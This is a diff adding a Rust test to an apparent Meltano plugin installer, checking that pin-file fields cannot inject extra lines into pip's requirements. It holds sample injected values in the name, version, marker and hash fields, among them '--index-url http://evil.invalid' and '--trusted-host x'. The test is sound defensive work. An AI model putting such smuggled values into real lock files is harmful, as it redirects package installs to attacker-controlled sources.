@@ -560,3 +560,50 @@ fn airflows_setup_steps_are_read_in_bounded_memory() {
         "{stderr}"
     );
 }
+
+#[test]
+fn a_pin_file_value_cannot_add_a_line_to_the_requirements_pip_is_given() {
+    let (_tmp, dir) = project_dir();
+    fs::write(
+        dir.join("meltano.yml"),
+        "version: 1\nplugins:\n  extractors:\n  - name: tap-x\n    namespace: tap_x\n    \
+         pip_url: tap-x==1.0\n",
+    )
+    .unwrap();
+    let pins = dir.join("plugins/extractors/pylock.tap-x.toml");
+    fs::create_dir_all(pins.parent().unwrap()).unwrap();
+    let hash = "a".repeat(64);
+    for (field, package) in [
+        (
+            "name",
+            "name = \"tap-x\\n--index-url http://evil.invalid\"\nversion = \"1.0\"".to_string(),
+        ),
+        (
+            "version",
+            "name = \"tap-x\"\nversion = \"1.0\\n--index-url http://evil.invalid\"".to_string(),
+        ),
+        (
+            "marker",
+            "name = \"tap-x\"\nversion = \"1.0\"\nmarker = \"python_version > '3'\\n-e /tmp\""
+                .to_string(),
+        ),
+        (
+            "hash",
+            format!(
+                "name = \"tap-x\"\nversion = \"1.0\"\nwheels = [{{hashes = {{sha256 = \"{hash} --trusted-host x\"}}}}]"
+            ),
+        ),
+    ] {
+        fs::write(
+            &pins,
+            format!("lock-version = \"1.0\"\n\n[[packages]]\n{package}\n"),
+        )
+        .unwrap();
+        let (code, stderr) = eltr_within_a_minute(&dir, &["install"]);
+        assert_eq!(code, Some(1), "{field}: {stderr}");
+        assert!(
+            stderr.contains(&format!("{}:3:1: package", pins.display())) && stderr.contains(field),
+            "{field}: {stderr}"
+        );
+    }
+}
